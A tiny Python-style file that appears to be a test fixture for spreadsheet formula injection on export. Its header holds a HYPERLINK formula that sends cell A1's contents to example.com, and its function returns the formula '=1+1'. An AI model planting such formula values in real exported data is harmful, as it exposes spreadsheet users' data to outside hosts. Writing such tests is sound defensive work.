# /// attack
# does = "has a name that a spreadsheet would run"
# wall = "export"
# person = "=HYPERLINK(\"https://example.com?\"&A1,\"open\")"
# ///
# %% double
def double(x, label): return "=1+1"
